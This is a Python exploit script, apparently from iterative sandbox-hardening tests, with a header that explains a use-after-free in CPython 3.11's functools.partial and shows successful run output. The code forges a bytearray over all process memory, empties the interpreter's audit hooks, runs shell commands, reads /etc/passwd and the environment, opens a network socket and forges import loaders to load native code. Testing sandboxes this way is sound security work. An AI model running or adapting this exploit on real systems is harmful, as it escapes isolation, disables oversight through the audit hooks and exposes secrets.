# family: wall (memory: functools.partial's call passes stored arguments borrowed, freed by __setstate__)   goal: env   interpreter: /usr/bin/python3
# (twelfth wall round, ok_04) FULL ESCAPE: functools.partial calls its function with its stored arguments
#        BORROWED; the argument's own __eq__ replaces them with p.__setstate__ -> the
#        reflected __eq__ receives the freed argument -> raw memory -> hook list emptied
#
# Family: memory safety of CPython 3.11 (Modules/_functoolsmodule.c). New type: the wall
#   has no guard for functools.partial (only lru_cache/partial's frames are discussed
#   in entrypoint.py). Upstream: the same class of bug as gh-154189 (partial_vectorcall
#   re-entrant __setstate__, 2026) and gh-144475 (partial.__repr__); neither fix is in 3.11.
# Mechanism: partial_vectorcall puts pto->args' items on the stack without a reference
#   and calls pto->fn = operator.eq. operator.eq(V, Wc()) runs V.__eq__ (V is not a
#   superclass of Wc: the forward call first), which calls
#   p.__setstate__((operator.eq, (), {}, None)): the old args tuple and its only
#   reference to V are dropped; V (__slots__ of six: an 80-byte GC block) lives on only
#   in V.__eq__'s frame, which returns NotImplemented and frees it. do_richcompare then
#   calls the reflected Wc.__eq__(w, <freed V>); there bytearray(FAKE) takes the block
#   back with a fake PyByteArrayObject (ob_size 2**62, ob_start NULL) at V's address,
#   and Wc.__eq__ keeps o: a bytearray over all memory. Same shape as wall11 ok_04 (the
#   callable iterator, now guarded), in a type nobody guarded. `import asyncio` only
#   loads socket/importlib for the payload (the primitive needs functools and operator;
#   without asyncio it reached id, /etc/passwd and the environment in the sandbox, then
#   stopped at socket). Then wall10/11's payload unchanged.
# Goals reached: audit hook removed; `id`; /etc/passwd; environment; AF_INET socket;
#   entrypoint frames and globals; native library (ctypes + libc).
# Plain python3: works in the image's 3.11.2 (docker run --rm --network none -i
#   --entrypoint python3 safe-exec-sandbox:r12 -I - < FILE). Sandbox: 5 of 5 runs.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r12; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 441 ms, cpu 49 ms, memory peak 24728 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=c2dc155c1b5f LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 6 getuid() = 10001
#   --- stderr (0 bytes)
#
import sys
import functools
import asyncio   # loads socket and importlib for the payload (as wall11 ok_04)
import operator
os = sys.modules["os"]
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:                                   # the partial's bound argument: an 80-byte GC block
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o):
        p.__setstate__((operator.eq, (), {}, None))   # the old args tuple (and V) dropped
        return NotImplemented              # our frame drops V's last reference on return
class Wc:
    def __eq__(s, o):
        keep.append(bytearray(FAKE))       # takes the freed V's block back
        keep.append(o)                     # o: the dangling V, now a fake bytearray
        return False
p = functools.partial(operator.eq, V())
p(Wc())                                    # operator.eq(<V borrowed from p.args>, Wc())
mem = keep[-1]
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(rd)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
